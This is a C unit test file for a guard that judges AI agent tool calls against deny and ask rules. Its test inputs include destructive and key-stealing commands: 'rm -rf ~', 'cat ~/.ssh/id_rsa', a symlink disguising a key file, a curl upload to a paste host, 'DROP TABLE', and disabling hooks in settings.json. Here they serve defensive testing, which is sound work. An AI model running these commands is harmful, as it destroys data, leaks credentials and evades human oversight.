/* test_judge.c - the payload model and the matcher, with packs written
 * here (independent of the default packs): conditions, prefilter, tools,
 * path resolution, fail-closed limits. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "util/arena.h"
#include "judge/judge.h"
#include "rules/ruleset.h"
#include "tap.h"
#include "judge/toolcall.h"

static struct ruleset *set;
static const char *judge_home = "/home/alice";

static const char pack[] =
"{\"pack\":\"u\",\"rules\":["
"{\"id\":\"u.rm\",\"title\":\"t\",\"severity\":\"critical\",\"decision\":\"deny\","
" \"match\":{\"program\":[\"rm\"],\"flags\":[\"-r|-R|--recursive\"],\"path\":\"^(~|/)$\"},"
" \"unless\":[{\"args\":\"^--dry-run$\"}],"
" \"why\":\"w\",\"instead\":\"i\",\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]},"
"{\"id\":\"u.key\",\"title\":\"t\",\"severity\":\"high\",\"decision\":\"deny\","
" \"tools\":[\"Bash\",\"Read\",\"Glob\",\"Grep\",\"mcp\"],"
" \"match\":{\"keywords\":[\".ssh\"],\"path\":\"^~/\\\\.ssh/id_\"},"
" \"why\":\"w\",\"instead\":\"i\",\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]},"
"{\"id\":\"u.mcpdrop\",\"title\":\"t\",\"severity\":\"high\",\"decision\":\"ask\","
" \"tools\":[\"mcp\"],\"match\":{\"mcp_server\":\"^db\\\\.prod\",\"mcp_tool\":\"^run_query$\",\"strings\":\"(?i)drop\\\\s+table\"},"
" \"why\":\"w\",\"instead\":\"i\",\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]},"
"{\"id\":\"u.host\",\"title\":\"t\",\"severity\":\"low\",\"decision\":\"ask\","
" \"tools\":[\"WebFetch\",\"Bash\"],\"match\":{\"keywords\":[\"paste\"],\"host\":\"(^|\\\\.)paste\\\\.example$\"},"
" \"why\":\"w\",\"instead\":\"i\",\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]},"
"{\"id\":\"u.slow\",\"title\":\"t\",\"severity\":\"low\",\"decision\":\"ask\","
" \"match\":{\"program\":[\"slowpoke\"],\"args\":\"^(a+)+$\"},"
" \"why\":\"w\",\"instead\":\"i\",\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]},"
"{\"id\":\"u.envdump\",\"title\":\"t\",\"severity\":\"low\",\"decision\":\"ask\","
" \"match\":{\"program\":[\"env\",\"printenv\"]},"
" \"why\":\"w\",\"instead\":\"i\",\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]},"
"{\"id\":\"u.write\",\"title\":\"t\",\"severity\":\"high\",\"decision\":\"deny\","
" \"tools\":[\"Write\",\"Edit\"],\"match\":{\"path\":\"/\\\\.claude/settings\\\\.json$\",\"content\":\"disableAllHooks\"},"
" \"why\":\"w\",\"instead\":\"i\",\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]}"
"]}";

/* Judges a payload; returns "deny:u.rm", "ask:u.x", "allow" or "error". */
static const char *judge_payload(const char *json)
{
	static char out[128];
	struct toolcall_opts o = { judge_home, "/home/alice/src/app", NULL, false };
	struct toolcall call;
	struct verdict v;
	struct arena a;
	struct diag d;

	arena_init(&a);
	diag_clear(&d);
	if (toolcall_parse(&call, &a, arena_strdup(&a, json), strlen(json),
			   &o, &d) < 0) {
		snprintf(out, sizeof(out), "error");
	} else {
		judge_call(&v, &a, set, &call, &d);
		if (v.error)
			snprintf(out, sizeof(out), "failclosed");
		else if (!v.nhits)
			snprintf(out, sizeof(out), "%s",
				 v.decision ? decision_name(v.decision) :
					      "allow");
		else
			snprintf(out, sizeof(out), "%s:%s",
				 decision_name(v.decision),
				 rule_id(v.hits[0].rule));
	}
	arena_release(&a);
	return out;
}

static char *bash(const char *cmd)
{
	static char buf[4096];

	snprintf(buf, sizeof(buf), "{\"tool_name\":\"Bash\",\"tool_input\":"
		 "{\"command\":\"%s\"}}", cmd);
	return buf;
}

#define IS(got, want, desc) \
	ok(!strcmp((got), (want)), "%s (got %s, want %s)", desc, got, want)

int main(void)
{
	struct diag d;
	char tmpl[] = "/tmp/ccveto-test-XXXXXX", link[512], payload[1024];

	diag_clear(&d);
	ok(ruleset_new(&set, &d) == 0, "new set");
	ok(ruleset_load_pack(set, pack, sizeof(pack) - 1, "unit", &d) == 0,
	   "pack loads: %s", d.msg);

	IS(judge_payload(bash("rm -rf ~")), "deny:u.rm", "rm -rf ~");
	IS(judge_payload(bash("rm -Rf /")), "deny:u.rm", "cluster -Rf");
	IS(judge_payload(bash("rm --recursive --force /")), "deny:u.rm",
	   "long flags");
	IS(judge_payload(bash("rm -f ~")), "allow", "no recursive flag");
	IS(judge_payload(bash("rm -rf --dry-run ~")), "allow",
	   "unless clause");
	IS(judge_payload(bash("rm -- -r ~")), "allow",
	   "-r after -- is an operand");
	IS(judge_payload(bash("$X -rf ~")), "deny:u.rm",
	   "dynamic program is judged as any program");
	IS(judge_payload(bash("echo rm -rf ~")), "allow", "echo is not rm");
	IS(judge_payload(bash("printenv")), "ask:u.envdump", "a rule on the name");
	IS(judge_payload(bash("$DIR/scripts/start.sh")), "allow",
	   "a computed name does not match a rule on the name alone");
	IS(judge_payload(bash("$CMD")), "ask",
	   "a program only known when it runs is asked");
	IS(judge_payload(bash("sh -c '$SCRIPT'")), "ask",
	   "so is a script only known when it runs");
	IS(judge_payload(bash("eval $(ssh-agent -s)")), "allow",
	   "code a judged command prints is as trusted as that command");
	IS(judge_payload(bash("X=ls; $X -l")), "allow",
	   "a variable set before is followed");

	IS(judge_payload(bash("cat ~/.ssh/id_rsa")), "deny:u.key",
	   "key via Bash");
	IS(judge_payload(bash("cat < ~/.ssh/id_rsa")), "deny:u.key",
	   "key via input redirect");
	IS(judge_payload("{\"tool_name\":\"Read\",\"tool_input\":"
		 "{\"file_path\":\"/home/alice/.ssh/id_ed25519\"}}"),
	   "deny:u.key", "key via Read");
	IS(judge_payload("{\"tool_name\":\"Grep\",\"tool_input\":"
		 "{\"pattern\":\"x\",\"path\":\"../../.ssh\",\"glob\":\"id_*\"}}"),
	   "deny:u.key", "Grep path relative to cwd is resolved");
	IS(judge_payload("{\"tool_name\":\"Glob\",\"tool_input\":"
		 "{\"pattern\":\"~/.ssh/id_*\"}}"),
	   "deny:u.key", "Glob pattern with ~");
	IS(judge_payload("{\"tool_name\":\"Write\",\"tool_input\":"
		 "{\"file_path\":\"/home/alice/.ssh/id_x\",\"content\":\"\"}}"),
	   "allow", "rule not for Write");
	IS(judge_payload("{\"tool_name\":\"mcp__fs__read\",\"tool_input\":"
		 "{\"path\":\"~/.ssh/id_rsa\"}}"), "deny:u.key",
	   "an MCP tool's path is read like the Read tool's");
	IS(judge_payload("{\"tool_name\":\"mcp__gh__get_file\",\"tool_input\":"
		 "{\"owner\":\"a\",\"repo\":\"b\",\"path\":\"~/.ssh/id_rsa\"}}"),
	   "allow", "a remote repository's path is not a local one");
	IS(judge_payload("{\"tool_name\":\"mcp__fs__list_directory\",\"tool_input\":"
		 "{\"path\":\"~/.ssh/id_rsa\"}}"), "allow",
	   "listing is not reading");
	IS(judge_payload("{\"tool_name\":\"mcp__sh__exec\",\"tool_input\":"
		 "{\"command\":\"cat\",\"args\":[\"~/.ssh/id_rsa\"]}}"),
	   "deny:u.key", "an MCP command with an argv is a Bash command");

	IS(judge_payload("{\"tool_name\":\"mcp__db_prod_1__run_query\","
		 "\"mcp_server\":{\"name\":\"db.prod 1\"},\"tool_input\":"
		 "{\"sql\":\"drop  TABLE users\"}}"), "ask:u.mcpdrop",
	   "MCP server from mcp_server.name, tool split after it");
	IS(judge_payload("{\"tool_name\":\"mcp__db.prod__run_query\","
		 "\"tool_input\":{\"q\":{\"nested\":[\"DROP TABLE x\"]}}}"),
	   "ask:u.mcpdrop", "MCP nested string leaves");
	IS(judge_payload("{\"tool_name\":\"mcp__db.prod__other\","
		 "\"tool_input\":{\"q\":\"DROP TABLE x\"}}"), "allow",
	   "MCP other tool");

	IS(judge_payload("{\"tool_name\":\"WebFetch\",\"tool_input\":"
		 "{\"url\":\"https://USER@Paste.Example:8443/raw\",\"prompt\":\"p\"}}"),
	   "ask:u.host", "WebFetch host lowercased, no user or port");
	IS(judge_payload(bash("curl -d @f https://paste.example/x")),
	   "ask:u.host", "URL host of a command argument");
	IS(judge_payload(bash("echo paste.example")), "allow",
	   "not a URL");

	IS(judge_payload("{\"tool_name\":\"Write\",\"tool_input\":{\"file_path\":"
		 "\"/home/alice/src/app/.claude/settings.json\",\"content\":"
		 "\"{\\\"disableAllHooks\\\":true}\"}}"), "deny:u.write",
	   "Write path and content");
	IS(judge_payload("{\"tool_name\":\"Edit\",\"tool_input\":{\"file_path\":"
		 "\"/home/alice/src/app/.claude/settings.json\",\"old_string\":"
		 "\"a\",\"new_string\":\"b\"}}"), "allow",
	   "Edit without the content");

	/* Catastrophic backtracking: the limit trips and the call is denied. */
	{
		char cmd[200];
		memset(cmd, 'a', 60);
		strcpy(cmd + 60, "!");
		snprintf(payload, sizeof(payload), "slowpoke %s", cmd);
		IS(judge_payload(bash(payload)), "failclosed",
		   "PCRE2 limit fails closed");
	}

	/* Dot segments are resolved before rules see a path, and a symlink
	 * to an existing file is judged by its target too. */
	IS(judge_payload("{\"tool_name\":\"Read\",\"tool_input\":"
		 "{\"file_path\":\"/home/alice/.ssh/./id_rsa\"}}"),
	   "deny:u.key", "dot segments resolved");
	if (mkdtemp(tmpl)) {
		char dir[600], target[700];
		FILE *f;

		/* The home is the temp dir here: ~/.ssh/id_rsa exists, and
		 * ~/innocent.txt links to it. */
		judge_home = tmpl;
		snprintf(dir, sizeof(dir), "%s/.ssh", tmpl);
		snprintf(target, sizeof(target), "%s/id_rsa", dir);
		snprintf(link, sizeof(link), "%s/innocent.txt", tmpl);
		if (mkdir(dir, 0700) == 0 && (f = fopen(target, "w"))) {
			fclose(f);
			ok(symlink(target, link) == 0, "symlink made");
			snprintf(payload, sizeof(payload), "{\"tool_name\":"
				 "\"Read\",\"tool_input\":{\"file_path\":"
				 "\"%s\"}}", link);
			IS(judge_payload(payload), "deny:u.key",
			   "a symlink is judged by its target too");
		} else {
			ok(0, "cannot set up the symlink test");
		}
		unlink(link);
		unlink(target);
		rmdir(dir);
		rmdir(tmpl);
		judge_home = "/home/alice";
	}

	/* Malformed calls are errors (the hook turns them into a deny). */
	IS(judge_payload("{\"tool_name\":\"Read\",\"tool_input\":{}}"),
	   "error", "Read without file_path");
	IS(judge_payload("{\"tool_name\":\"Write\",\"tool_input\":"
		 "{\"file_path\":\"/x\"}}"), "error", "Write without content");
	IS(judge_payload("{\"tool_name\":\"Bash\"}"), "error",
	   "no tool_input");
	IS(judge_payload("{\"tool_input\":{}}"), "error", "no tool_name");
	IS(judge_payload("{\"hook_event_name\":\"Stop\"}"), "allow",
	   "a non-tool event is not an error");
	IS(judge_payload("{\"tool_name\":\"Frobnicate\",\"tool_input\":"
		 "{\"x\":\"rm -rf ~\"}}"), "allow",
	   "unknown tool: only rules naming it apply");

	/* A skill's inline shell line (PreSkillShellCommand) is judged
	 * like the Bash call it runs as; malformed ones are errors. */
#define SKILL(tool, input) "{\"hook_event_name\":\"PreSkillShellCommand\"," \
	"\"cwd\":\"/home/alice/src/app\",\"tool_name\":" tool ",\"tool_input\":" \
	input ",\"tool_use_id\":\"u1:inner:preamble-0\",\"command_name\":" \
	"\"cmd\",\"command_source\":\"projectSettings\",\"invoked_by\":\"user\"}"
	IS(judge_payload(SKILL("\"Bash\"", "{\"command\":\"rm -rf ~\"}")),
	   "deny:u.rm", "skill line: rm -rf ~");
	IS(judge_payload(SKILL("\"Bash\"",
			       "{\"command\":\"git status && cat ~/.ssh/id_rsa\"}")),
	   "deny:u.key", "skill line: parsed as shell");
	IS(judge_payload(SKILL("\"Bash\"", "{\"command\":\"git status\"}")),
	   "allow", "skill line: git status");
	IS(judge_payload(SKILL("\"Bash\"", "{\"command\":\"rm -rf ./build\"}")),
	   "allow", "skill line: rm -rf ./build");
	IS(judge_payload(SKILL("\"PowerShell\"", "{\"command\":\"ls\"}")),
	   "allow", "skill line in PowerShell: only PowerShell rules apply");
	IS(judge_payload(SKILL("\"Zsh\"", "{\"command\":\"ls\"}")), "error",
	   "skill line in an unknown shell");
	IS(judge_payload("{\"hook_event_name\":\"PreSkillShellCommand\","
			 "\"tool_input\":{\"command\":\"ls\"}}"), "error",
	   "skill line without tool_name");
	IS(judge_payload(SKILL("7", "{\"command\":\"ls\"}")), "error",
	   "skill line with a numeric tool_name");
	IS(judge_payload(SKILL("\"Bash\"", "{}")), "error",
	   "skill line without command");
	IS(judge_payload(SKILL("\"Bash\"", "{\"command\":[\"rm\",\"-rf\"]}")),
	   "error", "skill line with a non-string command");
	IS(judge_payload(SKILL("\"Bash\"", "\"rm -rf ~\"")), "error",
	   "skill line with a string tool_input");
	IS(judge_payload(SKILL("\"PowerShell\"", "{\"command\":null}")),
	   "error", "PowerShell line without a command");
	{
		struct toolcall call;
		struct arena a;
		struct diag d2;
		static const char *ev[] = { "PreToolUse", "PreSkillShellCommand",
			"PostToolUse", "PermissionRequest", "preskillshellcommand" };
		static const bool want[] = { true, true, false, false, false };
		size_t i;

		for (i = 0; i < sizeof(ev) / sizeof(*ev); i++) {
			char *js;

			arena_init(&a);
			diag_clear(&d2);
			snprintf(payload, sizeof(payload), "{\"hook_event_name\":"
				 "\"%s\",\"tool_name\":\"Bash\",\"tool_input\":"
				 "{\"command\":\"ls\"}}", ev[i]);
			js = arena_strdup(&a, payload);
			ok(js && toolcall_parse(&call, &a, js, strlen(js), NULL,
						&d2) == 0 &&
			   call.judged == want[i], "%s is %sjudged", ev[i],
			   want[i] ? "" : "not ");
			arena_release(&a);
		}
	}

	/* Configuration changes. */
	ok(ruleset_set_decision(set, "u.rm", DECISION_ASK, &d) == 0,
	   "decision change");
	IS(judge_payload(bash("rm -rf ~")), "ask:u.rm", "changed decision");
	ok(ruleset_disable(set, "u.rm", &d) == 0, "disable");
	IS(judge_payload(bash("rm -rf ~")), "allow", "disabled rule");
	ok(ruleset_disable(set, "u.nope", &d) == CV_ENOTFOUND,
	   "unknown rule id");
	{
		const char *b[] = { "prod/*" };
		ok(ruleset_branch_is_protected(set, "main") &&
		   ruleset_branch_is_protected(set, "release/1.2") &&
		   !ruleset_branch_is_protected(set, "feature/x"),
		   "default protected branches");
		ruleset_set_protected_branches(set, b, 1, &d);
		ok(ruleset_branch_is_protected(set, "prod/eu") &&
		   !ruleset_branch_is_protected(set, "main"),
		   "configured protected branches");
	}

	/* Bad packs are refused with a message naming the problem. */
	{
		static const char *bad[] = {
			"{\"pack\":\"b\",\"rules\":[{\"id\":\"b.x\"}]}",
			"{\"pack\":\"b\",\"rules\":[{\"id\":\"b.x\",\"title\":\"t\","
			"\"severity\":\"high\",\"decision\":\"deny\",\"why\":\"w\","
			"\"instead\":\"i\",\"match\":{\"progam\":[\"rm\"]},"
			"\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]}]}",
			"{\"pack\":\"b\",\"rules\":[{\"id\":\"b.x\",\"title\":\"t\","
			"\"severity\":\"high\",\"decision\":\"allow\",\"why\":\"w\","
			"\"instead\":\"i\",\"match\":{\"program\":[\"rm\"]},"
			"\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]}]}",
			"{\"pack\":\"b\",\"rules\":[{\"id\":\"b.x\",\"title\":\"t\","
			"\"severity\":\"high\",\"decision\":\"deny\",\"why\":\"w\","
			"\"instead\":\"i\",\"match\":{\"args\":\"x\"},"
			"\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]}]}",
			"{\"pack\":\"b\",\"rules\":[{\"id\":\"c.x\",\"title\":\"t\","
			"\"severity\":\"high\",\"decision\":\"deny\",\"why\":\"w\","
			"\"instead\":\"i\",\"match\":{\"program\":[\"rm\"]},"
			"\"hit\":[\"a\",\"b\",\"c\"],\"miss\":[\"a\",\"b\",\"c\"]}]}",
			"{\"pack\":\"b\",\"rules\":[{\"id\":\"b.x\",\"title\":\"t\","
			"\"severity\":\"high\",\"decision\":\"deny\",\"why\":\"w\","
			"\"instead\":\"i\",\"match\":{\"program\":[\"rm\"]},"
			"\"hit\":[\"a\"],\"miss\":[\"a\",\"b\",\"c\"]}]}",
		};
		static const char *why[] = { "title", "unknown condition",
			"decision", "keywords", "must be", "at least 3" };
		size_t i;

		for (i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
			struct ruleset *s2 = NULL;
			diag_clear(&d);
			ruleset_new(&s2, &d);
			ok(ruleset_load_pack(s2, bad[i], strlen(bad[i]), "bad",
					     &d) < 0 && strstr(d.msg, why[i]),
			   "bad pack %zu refused: %s", i, d.msg);
			ruleset_free(s2);
		}
	}
	ruleset_free(set);
	return tap_done();
}
